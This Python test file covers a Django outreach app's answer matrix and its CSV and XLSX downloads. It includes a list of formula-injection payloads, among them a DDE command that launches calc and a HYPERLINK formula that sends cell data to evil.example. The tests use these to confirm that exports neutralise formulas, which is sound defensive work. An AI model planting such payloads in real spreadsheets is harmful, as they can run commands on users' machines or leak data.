"""The comparison matrix (questions × programs with source and date) and its CSV/XLSX downloads."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from outreach.answers import build_matrix, save_answers
from outreach.models import OutreachSettings
from programs.models import TrackedProgram
from tests.factories import TrackedProgramFactory

from .factories import EventFactory, ReplyFactory

PAYLOADS = [
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tTAB",
    "\rCR",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
]


@pytest.fixture
def setup(workspace):
    OutreachSettings.for_workspace(workspace)
    boston = TrackedProgramFactory(workspace=workspace, program__name="Boston")
    columbia = TrackedProgramFactory(workspace=workspace, program__name="Columbia")
    TrackedProgramFactory(workspace=workspace, program__name="Quiet")  # no answers
    questions = list(workspace.outreach_questions.active())
    open_house = EventFactory(
        workspace=workspace, title="Fall open house", starts_at=datetime(2026, 10, 20, 22, tzinfo=UTC)
    )
    save_answers(
        workspace,
        boston,
        {questions[0]: "J-1 only", questions[1]: "Yes"},
        event=open_house,
        answered_on=date(2026, 10, 20),
    )
    reply = ReplyFactory(parent__tracked=columbia)
    save_answers(
        workspace, columbia, {questions[0]: "J-1 and H-1B"}, message=reply, answered_on=date(2026, 10, 3)
    )
    return workspace, boston, columbia, questions


def tracked_of(workspace):
    return TrackedProgram.objects.for_workspace(workspace).with_program().order_by("program__name")


def test_the_matrix_puts_each_answer_under_its_program_with_source_and_date(setup):
    workspace, _boston, _columbia, questions = setup
    matrix = build_matrix(workspace, tracked_of(workspace))
    assert [t.program.name for t in matrix.programs] == ["Boston", "Columbia"]  # "Quiet" has no answers
    first_row = matrix.rows()[0]
    assert first_row[0] == questions[0]
    assert [[a.text for a in cell] for cell in first_row[1]] == [["J-1 only"], ["J-1 and H-1B"]]
    assert next(iter(matrix.export_rows())) == [
        questions[0].text,
        "J-1 only (Virtual open house: Fall open house, 2026-10-20)",
        "J-1 and H-1B (Email reply: Jane Doe <jane.doe@childrens.example.org>, 2026-10-03)",
    ]


def test_all_programs_can_be_shown_and_retired_questions_keep_their_answers(setup):
    workspace, _boston, _columbia, questions = setup
    questions[1].retire()
    questions[2].retire()  # never answered: gone from the matrix
    matrix = build_matrix(workspace, tracked_of(workspace), only_answered=False)
    assert len(matrix.programs) == 3
    shown = [q for q, _cells in matrix.rows()]
    assert questions[1] in shown and questions[2] not in shown


def test_saving_answers_updates_and_removes(setup):
    workspace, boston, _columbia, questions = setup
    event = boston.outreach_answers.first().event
    count = save_answers(
        workspace,
        boston,
        {questions[0]: "J-1 only, confirmed", questions[1]: ""},
        event=event,
        answered_on=date(2026, 10, 20),
    )
    assert count == 1
    assert dict(boston.outreach_answers.values_list("question_id", "text")) == {
        questions[0].pk: "J-1 only, confirmed"
    }


def test_the_matrix_page_shows_the_answers(alice_client, setup):
    workspace, *_ = setup
    page = alice_client.get(
        reverse("outreach:matrix", kwargs={"workspace_id": workspace.pk})
    ).content.decode()
    assert "J-1 and H-1B" in page and "Virtual open house" in page and "Oct 20, 2026" in page


@pytest.fixture
def hostile(setup):
    workspace, boston, _columbia, questions = setup
    event = boston.outreach_answers.first().event
    texts = {q: payload for q, payload in zip(questions, PAYLOADS, strict=False)}
    save_answers(workspace, boston, texts, event=event, answered_on=date(2026, 10, 20))
    questions[0].text = "=cmd|' /C calc'!A0"
    questions[0].save()
    return workspace


def test_the_csv_download_neutralises_formulas(alice_client, hostile):
    response = alice_client.get(reverse("outreach:matrix_csv", kwargs={"workspace_id": hostile.pk}))
    assert response["Content-Disposition"] == f'attachment; filename="answers-{hostile.season}.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Question", "Boston", "Columbia"]
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    boston_cells = [row[1] for row in rows[1:]]
    for payload in PAYLOADS:
        cell = next(c for c in boston_cells if payload in c)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_xlsx_download_has_no_formula_cells(alice_client, hostile):
    response = alice_client.get(reverse("outreach:matrix_xlsx", kwargs={"workspace_id": hostile.pk}))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["A2"].value == "=cmd|' /C calc'!A0" and sheet["A2"].data_type == "s"
